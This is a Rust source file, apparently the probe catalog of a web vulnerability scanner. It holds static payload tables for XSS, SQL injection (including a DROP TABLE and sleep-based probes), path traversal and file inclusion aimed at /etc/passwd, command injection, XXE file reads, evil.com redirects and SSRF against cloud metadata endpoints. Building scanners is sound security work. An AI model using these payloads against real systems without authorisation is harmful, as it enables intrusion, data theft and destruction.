//! Probe catalog
//!
//! Immutable payload tables, one per vulnerability class. Everything here is
//! `'static` data, so the tables are shared freely between workers.

use serde::{Deserialize, Serialize};

/// Vulnerability classes the engine probes for
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum VulnClass {
    Xss,
    Sqli,
    TraversalLfi,
    CommandInjection,
    Xxe,
    OpenRedirect,
    Ssrf,
}

impl VulnClass {
    pub fn all() -> &'static [VulnClass] {
        &[
            VulnClass::Xss,
            VulnClass::Sqli,
            VulnClass::TraversalLfi,
            VulnClass::CommandInjection,
            VulnClass::Xxe,
            VulnClass::OpenRedirect,
            VulnClass::Ssrf,
        ]
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            VulnClass::Xss => "xss",
            VulnClass::Sqli => "sqli",
            VulnClass::TraversalLfi => "traversal_lfi",
            VulnClass::CommandInjection => "command_injection",
            VulnClass::Xxe => "xxe",
            VulnClass::OpenRedirect => "open_redirect",
            VulnClass::Ssrf => "ssrf",
        }
    }

    pub fn name(&self) -> &'static str {
        match self {
            VulnClass::Xss => "Cross-Site Scripting (XSS)",
            VulnClass::Sqli => "SQL Injection",
            VulnClass::TraversalLfi => "Path Traversal / LFI",
            VulnClass::CommandInjection => "Command Injection",
            VulnClass::Xxe => "XXE (XML External Entity)",
            VulnClass::OpenRedirect => "Open Redirect",
            VulnClass::Ssrf => "SSRF (Server-Side Request Forgery)",
        }
    }
}

impl std::fmt::Display for VulnClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Detection mode for classes with more than one signal
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Strategy {
    Boolean,
    Time,
    Error,
    Union,
}

/// A single crafted probe value
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Payload {
    pub value: &'static str,
    pub description: &'static str,
    pub class: VulnClass,
    pub strategy: Option<Strategy>,
}

impl Payload {
    pub const fn new(value: &'static str, description: &'static str, class: VulnClass) -> Self {
        Self {
            value,
            description,
            class,
            strategy: None,
        }
    }

    pub const fn with_strategy(mut self, strategy: Strategy) -> Self {
        self.strategy = Some(strategy);
        self
    }

    /// Host part of an absolute or protocol-relative payload (`https://evil.com`, `//evil.com`)
    pub fn external_host(&self) -> Option<&'static str> {
        let value = self.value;
        let rest = if let Some(idx) = value.find("://") {
            &value[idx + 3..]
        } else if let Some(stripped) = value.strip_prefix("//") {
            stripped
        } else {
            return None;
        };

        let host = rest.split(['/', '?', '#']).next().unwrap_or("");
        if host.is_empty() {
            None
        } else {
            Some(host)
        }
    }
}

const fn xss(value: &'static str, description: &'static str) -> Payload {
    Payload::new(value, description, VulnClass::Xss)
}

const fn sqli(value: &'static str, description: &'static str, strategy: Strategy) -> Payload {
    Payload::new(value, description, VulnClass::Sqli).with_strategy(strategy)
}

/// Reflected markup payloads
pub static XSS_PAYLOADS: &[Payload] = &[
    xss("<script>alert('XSS')</script>", "Basic script tag"),
    xss("<img src=x onerror=alert('XSS')>", "IMG event handler"),
    xss("<svg/onload=alert('XSS')>", "SVG onload"),
    xss("javascript:alert('XSS')", "JavaScript protocol"),
    xss("<iframe src=javascript:alert('XSS')>", "Iframe javascript"),
    xss("<body onload=alert('XSS')>", "Body onload"),
    xss("'\"><script>alert('XSS')</script>", "Attribute breakout"),
    xss("<img src=\"x\" onerror=\"alert('XSS')\">", "Quoted event handler"),
    xss("<ScRiPt>alert('XSS')</ScRiPt>", "Case variation"),
    xss("<<SCRIPT>alert('XSS');//<</SCRIPT>", "Nested tags"),
];

/// SQL injection payloads
pub static SQLI_PAYLOADS: &[Payload] = &[
    sqli("' OR 1=1--", "Basic OR boolean", Strategy::Boolean),
    sqli("' OR '1'='1", "String OR boolean", Strategy::Boolean),
    sqli("' UNION SELECT null--", "Basic UNION", Strategy::Union),
    sqli("' UNION SELECT null,null,null--", "UNION 3 columns", Strategy::Union),
    sqli("'; DROP TABLE users--", "DROP TABLE", Strategy::Error),
    sqli(
        "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'",
        "UNION with data",
        Strategy::Union,
    ),
    sqli("admin'--", "Simple comment", Strategy::Boolean),
    sqli("' OR 'x'='x", "Alternate OR", Strategy::Boolean),
    sqli("') OR ('1'='1", "Parenthesised OR", Strategy::Boolean),
    sqli("' OR SLEEP(5)--", "MySQL SLEEP", Strategy::Time),
    sqli("'; WAITFOR DELAY '0:0:5'--", "SQL Server WAITFOR", Strategy::Time),
    sqli("' OR pg_sleep(5)--", "PostgreSQL sleep", Strategy::Time),
    sqli("'; SELECT pg_sleep(5)--", "Stacked query PostgreSQL", Strategy::Time),
    sqli("1'; SELECT SLEEP(5)#", "Stacked query MySQL", Strategy::Time),
    sqli(
        "' AND 1=CONVERT(int, (SELECT @@version))--",
        "SQL Server version",
        Strategy::Error,
    ),
    sqli(
        "' AND extractvalue(1, concat(0x7e, version()))--",
        "MySQL extractvalue",
        Strategy::Error,
    ),
];

/// Directory traversal payloads, sent against the base URL
pub static TRAVERSAL_PAYLOADS: &[Payload] = &[
    Payload::new("../../../etc/passwd", "Relative traversal", VulnClass::TraversalLfi),
    Payload::new("..\\..\\..\\windows\\win.ini", "Windows traversal", VulnClass::TraversalLfi),
    Payload::new("....//....//....//etc/passwd", "Filter bypass traversal", VulnClass::TraversalLfi),
    Payload::new(
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "URL-encoded traversal",
        VulnClass::TraversalLfi,
    ),
    Payload::new(
        "..%252f..%252f..%252fetc%252fpasswd",
        "Double-encoded traversal",
        VulnClass::TraversalLfi,
    ),
];

/// Local file inclusion payloads, sent through common file parameters
pub static LFI_PAYLOADS: &[Payload] = &[
    Payload::new("/etc/passwd", "Absolute path", VulnClass::TraversalLfi),
    Payload::new("../../../etc/passwd", "Relative path", VulnClass::TraversalLfi),
    Payload::new("../../../../../../etc/passwd", "Deep relative path", VulnClass::TraversalLfi),
    Payload::new("C:\\windows\\win.ini", "Windows absolute path", VulnClass::TraversalLfi),
    Payload::new("..\\..\\..\\windows\\win.ini", "Windows relative path", VulnClass::TraversalLfi),
];

/// Parameter names probed for local file inclusion
pub static LFI_PARAMS: &[&str] = &["file", "page", "include", "view", "template", "doc", "document"];

/// Command injection payloads
pub static COMMAND_INJECTION_PAYLOADS: &[Payload] = &[
    Payload::new("; ls -la", "Semicolon directory listing", VulnClass::CommandInjection),
    Payload::new("| whoami", "Pipe whoami", VulnClass::CommandInjection),
    Payload::new("& dir", "Windows directory listing", VulnClass::CommandInjection),
    Payload::new("`id`", "Backtick id", VulnClass::CommandInjection),
    Payload::new("$(whoami)", "Subshell whoami", VulnClass::CommandInjection),
    Payload::new("; cat /etc/passwd", "Read passwd", VulnClass::CommandInjection),
    Payload::new("| type C:\\windows\\win.ini", "Read win.ini", VulnClass::CommandInjection),
];

/// XML entity expansion payloads
pub static XXE_PAYLOADS: &[Payload] = &[
    Payload::new(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<data>&xxe;</data>",
        "External entity /etc/passwd",
        VulnClass::Xxe,
    ),
    Payload::new(
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///C:/Windows/win.ini\">]><data>&xxe;</data>",
        "External entity win.ini",
        VulnClass::Xxe,
    ),
];

/// Open redirect payloads
pub static OPEN_REDIRECT_PAYLOADS: &[Payload] = &[
    Payload::new("https://evil.com", "Absolute external URL", VulnClass::OpenRedirect),
    Payload::new("//evil.com", "Protocol-relative URL", VulnClass::OpenRedirect),
    Payload::new("javascript:alert(1)", "JavaScript URI", VulnClass::OpenRedirect),
    Payload::new("http://google.com", "Well-known external host", VulnClass::OpenRedirect),
];

/// SSRF payloads
pub static SSRF_PAYLOADS: &[Payload] = &[
    Payload::new("http://127.0.0.1", "Loopback address", VulnClass::Ssrf),
    Payload::new("http://localhost", "Localhost name", VulnClass::Ssrf),
    Payload::new("http://169.254.169.254", "AWS metadata", VulnClass::Ssrf),
    Payload::new("http://metadata.google.internal", "GCP metadata", VulnClass::Ssrf),
    Payload::new("file:///etc/passwd", "File scheme", VulnClass::Ssrf),
];

/// Look up the payload table for a class
pub fn payloads_for(class: VulnClass) -> &'static [Payload] {
    match class {
        VulnClass::Xss => XSS_PAYLOADS,
        VulnClass::Sqli => SQLI_PAYLOADS,
        VulnClass::TraversalLfi => TRAVERSAL_PAYLOADS,
        VulnClass::CommandInjection => COMMAND_INJECTION_PAYLOADS,
        VulnClass::Xxe => XXE_PAYLOADS,
        VulnClass::OpenRedirect => OPEN_REDIRECT_PAYLOADS,
        VulnClass::Ssrf => SSRF_PAYLOADS,
    }
}
